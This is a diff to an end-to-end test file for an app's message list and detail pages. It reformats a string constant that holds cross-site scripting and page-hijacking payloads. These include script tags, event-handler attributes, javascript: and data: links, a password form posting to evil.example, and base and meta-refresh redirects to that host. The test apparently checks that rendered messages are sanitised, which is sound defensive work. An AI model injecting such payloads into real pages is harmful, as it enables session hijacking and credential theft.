@@ -5,14 +5,24 @@ import { expect, test } from '../fixtures/test';
 
 /* 我的消息 and 消息详情 (docs/product/account-and-security.md). */
 
-const hostile = `<p onclick="window.hacked=1" style="position:fixed;inset:0;z-index:99">正文</p><script>window.hacked=1</script>
-<style>*{display:none}</style><img src="/api/none.svg" alt="图" onerror="window.hacked=1" onload="window.hacked=1"><svg onload="window.hacked=1"></svg><iframe src="https://evil.example"></iframe>
-<a href=" java
-script:window.hacked=1">甲</a><a href="data:text/html;base64,PHNjcmlwdD4=">乙</a><a href="vbscript:x" onmouseover="window.hacked=1">丁</a>
-<form action="https://evil.example"><input name="password" autofocus onfocus="window.hacked=1"><button>提交</button></form>
-<div id="root" class="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">戊</div>
-<object data="https://evil.example"></object><embed src="https://evil.example"><dialog open>己</dialog>
-<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><a href="https://example.com/">丙</a>`;
+const hostile =
+  '<p onclick="window.hacked=1" style="position:fixed;inset:0;z-index:99">正文</p>' +
+  '<script>window.hacked=1</script>\n' +
+  '<style>*{display:none}</style>' +
+  '<img src="/api/none.svg" alt="图" onerror="window.hacked=1" onload="window.hacked=1">' +
+  '<svg onload="window.hacked=1"></svg><iframe src="https://evil.example"></iframe>\n' +
+  '<a href=" java\n' +
+  'script:window.hacked=1">甲</a><a href="data:text/html;base64,PHNjcmlwdD4=">乙</a>' +
+  '<a href="vbscript:x" onmouseover="window.hacked=1">丁</a>\n' +
+  '<form action="https://evil.example">' +
+  '<input name="password" autofocus onfocus="window.hacked=1"><button>提交</button></form>\n' +
+  '<div id="root" class="cover"' +
+  ' style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">戊</div>\n' +
+  '<object data="https://evil.example"></object><embed src="https://evil.example">' +
+  '<dialog open>己</dialog>\n' +
+  '<base href="https://evil.example/">' +
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">' +
+  '<a href="https://example.com/">丙</a>';
 
 test('opens a message from the list and returns', async ({ page, host, open }) => {
   await open('/myNews');
